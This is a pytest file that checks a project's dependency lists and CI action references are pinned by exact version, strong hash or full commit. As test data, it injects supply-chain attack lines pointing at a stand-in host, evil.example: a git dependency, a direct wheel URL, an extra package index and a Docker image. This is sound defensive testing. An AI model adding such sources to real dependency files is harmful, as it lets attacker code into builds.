"""What others publish comes into what we publish only by a change here: hashes, pinned actions, a pinned image."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.meta import test_release as release
from tests.screens import ROOT

HASH = "0" * 64
ATTACKS: dict[str, tuple[Callable[[str], str], str]] = {
    "no hash": (lambda text: re.sub(r" \\\n    --hash=\S+", "", text, count=2), "action.txt"),
    "no version": (lambda text: re.sub(r"==\S+", "", text, count=1), "action.txt"),
    "range": (lambda text: text.replace("==", ">=", 1), "runtime.txt"),
    "weak hash": (lambda text: re.sub(r"--hash=sha256:\S+", "--hash=md5:0", text), "runtime.txt"),
    "from a repository": (lambda text: f"evil @ git+https://evil.example/x\n{text}", "sign.txt"),
    "from an address": (lambda text: f"https://evil.example/x.whl --hash=sha256:{HASH}\n{text}", "test.txt"),
    "other index": (lambda text: f"--extra-index-url https://evil.example\n{text}", "archive.txt"),
    "other list": (lambda text: f"-r evil.txt\n{text}", "action.txt"),
    "from the workspace": (lambda text: f"-e .\n{text}", "runtime.txt"),
    "capital letters": (lambda text: f"Evil==1 \\\n    --hash=sha256:{HASH}\n{text}", "test.txt"),
}
"""What a list could say that lets a package in, and the list."""


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_list_that_lets_a_package_in_is_noticed(attack: str, tmp_path: Path) -> None:
    change, name = ATTACKS[attack]
    text = (ROOT / ".ci" / "locked" / name).read_text(encoding="utf-8")
    path = tmp_path / name
    path.write_text(text)
    release.test_each_package_of_a_list_has_its_version_and_hashes(path)
    path.write_text(change(text))
    with pytest.raises(AssertionError):
        release.test_each_package_of_a_list_has_its_version_and_hashes(path)


@pytest.mark.parametrize(
    "used",
    [
        "actions/checkout@v4",
        "actions/checkout@main",
        "actions/checkout",
        "actions/checkout@11bd719",
        "evil/checkout@refs/heads/main",
        "docker://evil.example/image:latest",
        "./../evil",
        f"actions/checkout@{'g' * 40}",
        f"actions/checkout@{'0' * 39}",
        f"actions/checkout@{'0' * 40}-evil",
    ],
)
def test_an_action_that_others_may_exchange_is_not_pinned(used: str) -> None:
    assert release.PINNED.fullmatch(used) is None
    assert release.PINNED.fullmatch(f"actions/checkout@{'0' * 40}")
